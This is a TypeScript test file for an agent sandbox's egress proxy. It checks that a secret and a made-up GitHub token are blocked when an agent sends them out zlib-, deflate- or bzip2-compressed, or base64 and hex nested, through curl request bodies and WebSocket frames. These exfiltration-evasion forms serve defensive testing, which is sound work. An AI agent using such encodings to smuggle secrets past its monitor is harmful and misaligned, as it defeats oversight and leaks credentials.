// Sandbox escape, by compressing or re-encoding a secret in a body that declares no encoding:
// the agent holds a secret (a forwarded env value pipelock knows) and a credential the bottle
// never declared (a made-up GitHub token), and sends each zlib'd, raw-deflated and bzip2'd
// (raw and base64'd), base64'd 1..3 times (within the nesting bound), 4 and more times (past
// it), and in mixed hex/base64 chains, as request bodies and as WebSocket binary frames. Each
// must be refused, and the recording stand-in must never receive any of them; compressed
// lorem text, a PNG and a tar.gz made here, and text base64'd within the bound still pass.
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import { beforeAll, expect, it } from "vitest";
import type { RunningBottle } from "../support/docker/bottle-harness.js";
import { describeWithEngine } from "../support/docker/engine.js";
import {
  CLEAN_MESSAGE,
  curlThrough,
  notRefused,
  pipelockWebSocket,
  writeAgentFiles,
} from "../support/docker/escape-bottle.js";
import { probe, webSocketFrame } from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";

const SECRET = `CbPack-${randomBytes(6).toString("hex").toUpperCase()}-${randomBytes(6).toString("hex")}`;
const ALLOWED = "allowed.example.test";
/** A GitHub token of the right shape, made up per run: a credential the bottle never declared. */
const TOKEN = `ghp_${[...randomBytes(36)].map((b) => "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"[b % 62]).join("")}`;
/** The engine's bound on nested decodes (scan-view.ts MAX_NESTING). */
const BOUND = 3;
const LOREM =
  "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua. ".repeat(
    40,
  );

/** bzip2 by the system's compressor (Node has none). */
function bzip2(bytes: Buffer): Buffer {
  const r = spawnSync("bzip2", ["-c"], { input: bytes });
  if (r.status !== 0)
    throw new Error(`bzip2 -c failed (is bzip2 installed on the host?): ${r.stderr}`);
  return r.stdout;
}

const b64 = (b: Buffer) => Buffer.from(b.toString("base64"));
const hex = (b: Buffer) => Buffer.from(b.toString("hex"));
const times = (b: Buffer, n: number, encode = b64) => {
  let out = b;
  for (let i = 0; i < n; i++) out = encode(out);
  return out;
};

/** Each compressed or nested form of `value`, by name. */
function forms(value: string): Record<string, Buffer> {
  const text = Buffer.from(`note: ${value} and some text after it`);
  return {
    zlib: deflateSync(text),
    "zlib-b64": b64(deflateSync(text)),
    raw: deflateRawSync(text),
    "raw-b64": b64(deflateRawSync(text)),
    bzip2: bzip2(text),
    "bzip2-b64": b64(bzip2(text)),
    ...Object.fromEntries(
      Array.from({ length: BOUND }, (_, i) => [`b64x${i + 1}`, times(text, i + 1)]),
    ),
    [`b64x${BOUND + 1}`]: times(text, BOUND + 1),
    b64x6: times(text, 6),
    b64x10: times(text, 10),
    "hex-b64-hex": hex(b64(hex(text))),
    "mixed-x5": hex(b64(hex(b64(hex(text))))),
  };
}

/** A real PNG: 32×32 RGB, rows of a gradient, each with filter byte 0. */
function png(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([head, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(32, 0);
  ihdr.writeUInt32BE(32, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const rows = Array.from({ length: 32 }, (_, y) =>
    Buffer.from([0, ...Array.from({ length: 96 }, (_, x) => (x * 7 + y * 5) & 0xff)]),
  );
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.concat(rows))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A real tar.gz of two small files, made by the host's tar. */
function tarGz(): Buffer {
  const dir = mkdtempSync(join(tmpdir(), "cb-pack-"));
  try {
    writeFileSync(join(dir, "README.md"), `# package\n\n${LOREM}\n`);
    writeFileSync(join(dir, "index.js"), "export const answer = 42;\n");
    const r = spawnSync("tar", ["-czf", "-", "-C", dir, "README.md", "index.js"]);
    if (r.status !== 0) throw new Error(`tar -czf failed: ${r.stderr}`);
    return r.stdout;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

function controls(): Record<string, Buffer> {
  const lorem = Buffer.from(LOREM);
  return {
    "lorem-zlib": deflateSync(lorem),
    "lorem-raw": deflateRawSync(lorem),
    "lorem-bzip2": bzip2(lorem),
    "lorem-b64x2": times(lorem, 2),
    "lorem-hex-b64": b64(hex(lorem)),
    png: png(),
    "png-b64": b64(png()),
    "tar-gz": tarGz(),
  };
}

describeWithEngine(
  "escape: compressing or re-encoding a secret in a body that declares none",
  () => {
    const suite = escapeSuite();
    let bottle: RunningBottle;
    let upstream: RecordingUpstream;
    const secretForms = forms(SECRET);
    const tokenForms = forms(TOKEN);
    const cleanForms = controls();

    const received = async () =>
      everythingReceived(await upstream.requests(), await upstream.frames());

    /** Whether `text` shows the secret or the token to a reader that undoes every form here. */
    function leaks(text: string): string[] {
      const found: string[] = [];
      for (const [name, value] of [
        ["secret", SECRET],
        ["token", TOKEN],
      ] as const) {
        if (text.includes(value) || text.includes(value.slice(4))) found.push(name);
        for (const [form, bytes] of Object.entries(name === "secret" ? secretForms : tokenForms)) {
          if (text.includes(bytes.toString("latin1").slice(0, 64))) found.push(`${name} ${form}`);
        }
      }
      return found;
    }

    beforeAll(async () => {
      ({ bottle, upstream } = await suite.startSecretBottle("pack", SECRET, [ALLOWED]));
      // The agent writes every body itself, into /tmp/pack.
      await writeAgentFiles(bottle, "/tmp/pack", [
        ...Object.entries(secretForms).map(([n, b]): [string, Buffer] => [`secret-${n}`, b]),
        ...Object.entries(tokenForms).map(([n, b]): [string, Buffer] => [`token-${n}`, b]),
        ...Object.entries(cleanForms),
      ]);
    });

    it("holds the secret, and sends compressed text, a PNG and a tar.gz (the controls)", async () => {
      expect((await bottle.exec('printf %s "$AGENT_SECRET"')).stdout).toBe(SECRET);
      const refused: string[] = [];
      for (const name of Object.keys(cleanForms)) {
        const r = await curlThrough(bottle, `https://${ALLOWED}/control/${name}`, {
          args: `-H 'Content-Type: application/octet-stream' --data-binary @/tmp/pack/${name}`,
        });
        if (r.http !== 200) refused.push(`${name}: ${r.connect} ${r.http}`);
      }
      expect(refused).toEqual([]);
      const got = (await upstream.requests()).filter((r) => r.url.startsWith("/control/"));
      expect(got.map((r) => r.url).sort()).toEqual(
        Object.keys(cleanForms)
          .map((n) => `/control/${n}`)
          .sort(),
      );
      // What arrived is what was sent, byte for byte.
      for (const r of got) {
        const name = r.url.slice("/control/".length);
        expect(Buffer.from(r.body, "base64").equals(cleanForms[name] as Buffer), name).toBe(true);
      }
    });

    it("blocks the secret and an undeclared token zlib'd, raw-deflated, bzip2'd and nested", async () => {
      // Threat: the receiver undoes a compression or encoding the scanner does not look into.
      const cases = [
        ...Object.keys(secretForms).map((n) => `secret-${n}`),
        ...Object.keys(tokenForms).map((n) => `token-${n}`),
      ].map((name) => ({
        name,
        url: `https://${ALLOWED}/escape/${name}`,
        args: `-H 'Content-Type: application/octet-stream' --data-binary @/tmp/pack/${name}`,
      }));
      const passed = await notRefused(bottle, cases);
      expect(passed).toEqual([]);
      expect(leaks(await received())).toEqual([]);
    });

    it("reads compressed forms and chains within the bound, refuses chains past it as unscannable", async () => {
      const audit = await bottle.pipelockAudit();
      const blocked = (name: string) =>
        audit.filter((e) => JSON.stringify(e).includes(`"/escape/${name}"`)).map((e) => e.rule);
      for (const name of [`b64x${BOUND + 1}`, "b64x6", "b64x10", "mixed-x5"]) {
        expect(blocked(`token-${name}`), name).toContain("unscannable-encoding");
      }
      // Compressed forms are read, in pipelock's bundle too (bzip2 is a bundled library).
      for (const name of ["zlib", "zlib-b64", "raw", "raw-b64", "bzip2", "bzip2-b64"]) {
        expect(blocked(`token-${name}`), name).toContain("github-pat");
      }
      for (let depth = 1; depth <= BOUND; depth++) {
        expect(blocked(`token-b64x${depth}`), `depth ${depth}`).toContain("github-pat");
      }
    });

    it("blocks them in WebSocket binary frames, and relays clean compressed frames", async () => {
      const session = (target: string, frames: Buffer[]) =>
        pipelockWebSocket(bottle, ALLOWED, target, [
          webSocketFrame(2, cleanForms["lorem-zlib"] as Buffer),
          ...frames,
        ]);
      const names = ["zlib", "raw", "bzip2", "bzip2-b64", `b64x${BOUND + 1}`, "mixed-x5"];
      const ops = names.flatMap((name) => [
        session(`/ws-escape/secret-${name}`, [webSocketFrame(2, secretForms[name] as Buffer)]),
        session(`/ws-escape/token-${name}`, [webSocketFrame(2, tokenForms[name] as Buffer)]),
      ]);
      const results = await probe(bottle.agentContainer, ops);
      expect(results.map((r) => `${r.outcome} ${r.status}`)).toEqual(
        ops.map(() => "exchanged 101"),
      );
      // Read and found, or (nested past the bound) refused as unreadable: never relayed.
      const nested = new Set([`b64x${BOUND + 1}`, "mixed-x5"]);
      results.forEach((r, i) => {
        const name = names[Math.floor(i / 2)] as string;
        expect(r.response, name).toContain(
          nested.has(name) ? "pipelock: message cannot be scanned" : "pipelock: blocked",
        );
      });
      const frames = await upstream.frames();
      const payloads = frames.map((f) => Buffer.from(f.payload, "base64"));
      const lorem = cleanForms["lorem-zlib"] as Buffer;
      // Each session's clean frames went through; nothing after them did.
      expect(payloads.filter((p) => p.toString() === CLEAN_MESSAGE)).toHaveLength(ops.length);
      expect(payloads.filter((p) => p.equals(lorem))).toHaveLength(ops.length);
      expect(payloads.length).toBeGreaterThanOrEqual(2 * ops.length);
      expect(leaks(await received())).toEqual([]);
    });

    it("the stand-in never received them, and the audit log never held them", async () => {
      const escapes = (await upstream.requests()).filter((r) => r.url.startsWith("/escape"));
      expect(escapes.map((r) => r.url)).toEqual([]);
      expect(leaks(await received())).toEqual([]);
      const audit = await bottle.pipelockAudit();
      expect(leaks(JSON.stringify(audit))).toEqual([]);
    });
  },
);
